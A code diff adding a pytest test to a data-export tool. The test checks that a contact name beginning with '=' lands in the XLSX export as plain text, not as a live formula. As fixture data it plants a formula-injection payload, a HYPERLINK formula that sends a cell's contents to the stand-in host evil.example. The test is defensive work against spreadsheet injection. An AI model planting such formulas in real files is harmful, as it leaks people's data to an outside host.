@@ -114,3 +114,25 @@ def test_the_export_includes_the_risk_score_and_quarantined_records_held_on_the_
                                         tmp_path / "erin.zip")) as zf:
         assert pl.read_csv(io.BytesIO(zf.read("quarantined.csv")))["dataset"].to_list() == ["email_events"]
         assert pl.read_csv(io.BytesIO(zf.read("profiling.csv")))["score"].to_list() == [0.42]
+
+
+def test_a_value_that_looks_like_a_formula_is_text_in_the_xlsx(scenario: Settings, tmp_path: Path) -> None:
+    """A name (or a chat message) starting with '=' is the person's data, not a formula for the reader's
+    spreadsheet to run: openpyxl would otherwise write it as a live formula (a link, a DDE call)."""
+    from openpyxl import load_workbook
+    from purge_scenario import ingest
+
+    formula = '=HYPERLINK("http://evil.example/?q="&A1,"Erin")'
+    contacts = scenario.landing / TENANT / "crm" / "contacts" / "contacts.csv"
+    header, *rows = contacts.read_text(encoding="utf-8-sig").splitlines()
+    erin = next(r for r in rows if r.startswith(ERIN["id"] + ","))
+    late = erin.replace(",Erin,", ',"' + formula.replace('"', '""') + '",').replace(
+        "2026-01-01T00:00:00Z", "2026-05-01T00:00:00Z")
+    (contacts.parent / "late.csv").write_text(header + "\n" + late + "\n")
+    ingest(scenario)
+
+    out = export_subject(scenario, TENANT, SubjectRef(contact_id=ERIN["id"]), "xlsx", tmp_path / "erin.xlsx")
+    sheet = load_workbook(out)["crm_contacts"]
+    names = [c for c in sheet[1] if c.value == "FirstName"][0].column
+    cell = sheet.cell(row=2, column=names)
+    assert (cell.value, cell.data_type) == (formula, "s")
